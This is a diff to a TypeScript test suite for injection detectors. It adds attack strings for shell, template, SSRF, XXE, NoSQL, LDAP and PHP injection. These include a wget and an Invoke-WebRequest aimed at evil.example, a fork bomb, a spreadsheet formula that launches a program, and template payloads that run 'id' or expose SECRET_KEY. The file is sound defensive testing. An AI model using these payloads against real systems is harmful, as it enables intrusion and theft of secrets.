@@ -8,7 +8,10 @@ type Row = readonly [why: string, text: string, place?: Place]
 
 const attacks: Readonly<Record<string, readonly Row[]>> = {
   SqlInjection: [['a condition that always holds', "a' or 8=8--"]],
-  CrossSiteScripting: [['a script', '<script>ping()</script>']],
+  CrossSiteScripting: [
+    ['a script', '<script>ping()</script>'],
+    ['a function that a method calls', '[9].find(alert)'],
+  ],
   ShellCommand: [
     ['a command after a semicolon', '10.0.0.1; wget http://evil.example/x'],
     ['a short command after a pipe', '10.0.0.1|id'],
@@ -30,6 +33,13 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['Windows: a variable', 'type %SystemRoot%\\x'],
     ['PowerShell', ';Invoke-WebRequest evil.example'],
     ['a fork bomb', 'b(){ b|b& };b'],
+    ['a word expanded to nothing within the name', ';who$()ami'],
+    ['a number as argument in a substitution', '$(sleep 9)'],
+    ['a command alone in the line after a host', '10.0.0.9\nid'],
+    ['options that are letters', '; ps aux'],
+    ['a sum that a shell would show', 'x$((6*8))'],
+    ['a cell that starts a program', "=cmd|' /C calc'!A1"],
+    ['an option that runs another program', '-oProxyCommand=touch x'],
     ['Python runs it', "__import__('os').system('id')"],
   ],
   PathTraversal: [
@@ -72,6 +82,8 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['an IPv4 address in IPv6', 'http://[::ffff:7f00:1]/'],
     ['circled digits', 'http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/'],
     ['a name that resolves inside', 'http://10.0.0.1.nip.io/'],
+    ['a store behind the server', 'http://cache:6379/'],
+    ['with the name of its argument', 'url=http://10.1.2.3/'],
     ['credentials that look like the host', 'http://shop.example@evil.example/'],
     ['another protocol', 'gopher://shop.example:6379/_x'],
   ],
@@ -87,6 +99,13 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['Thymeleaf', '*{6*8}'],
     ['Smarty', "{system('id')}"],
     ['a statement of Jinja', '{% for q in x %}'],
+    ['the object of its settings', '{{ config }}'],
+    ['a filter that runs', "{{ 'id' | system }}"],
+    ['a key hidden in two', "{{ x['__gl'+'obals__'] }}"],
+    ['a constructor, in a language without calls', '{{ lookup . "constructor" }}'],
+    ['a key of the settings', '{{ settings.SECRET_KEY }}'],
+    ['backticks of Ruby', '<%= `id` %>'],
+    ['an object of Smarty', '{$smarty.version}'],
     ['Perl', "@{[system 'id']}"],
   ],
   XmlEntities: [
@@ -95,6 +114,7 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['an entity of entities', '<!DOCTYPE a [<!ENTITY b "&c;&c;">]>'],
     ['an external type', '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">'],
     ['UTF-7', '+ADwAIQ-ENTITY a SYSTEM +ACI-x+ACI-+AD4-'],
+    ['a style sheet from outside', '<xsl:include href="http://evil.example/x.xsl"/>'],
     ['XInclude', '<a xmlns:xi="http://www.w3.org/2001/XInclude"/>'],
   ],
   NoSql: [
@@ -103,12 +123,17 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['an operator in an object', '{"$ne": 1}'],
     ['without quotes', "{$regex: '^a'}"],
     ['a list of conditions', "', $or: [ {}, {'a':'a"],
+    ['a member added', "' }, $comment: 'x"],
+    ['a condition that always holds', "'||true//"],
+    ['a condition on the document', 'this.pw.length > 0'],
     ['code in a condition', "' || this.pw.length==8 || 'a'=='b"],
     ['a statement of the shell', 'db.users.drop()'],
   ],
   Ldap: [
     ['a filter closed and another opened', '*)(uid=*))(|(uid=*'],
     ['a condition added', 'eve)(|(pw=*)'],
+    ['parentheses closed and opened again', 'eve*)((|pw=*)'],
+    ['a filter that all meet', '(objectClass=*)'],
     ['a filter ended', 'eve)\0'],
     ['a filter of one\u2019s own', '(&(cn=a)(x=b))'],
   ],
@@ -118,6 +143,7 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['a superglobal', "$_GET['c']"],
     ['a call that tells', 'phpinfo()'],
     ['a call by a quoted name', "'system'('id')"],
+    ['a call that runs', "exec('id')"],
     ['a call through a variable', '$f(1)'],
     ['a serialized object', 'O:3:"Foo":1:{s:1:"a";i:1;}'],
     ['a setting', 'allow_url_include=1'],
@@ -237,5 +263,5 @@ test('base64 hides nothing, whether in a value or in the last segment of a path'
 test('every detector has rows, and every row ran', () => {
   assert.deepEqual(Object.keys(attacks).sort(), detectors.map(({ name }) => name).sort())
   const rows = Object.values(attacks).flat().length
-  assert.deepEqual([rows, benign.length], [116, 55])
+  assert.deepEqual([rows, benign.length], [140, 55])
 })
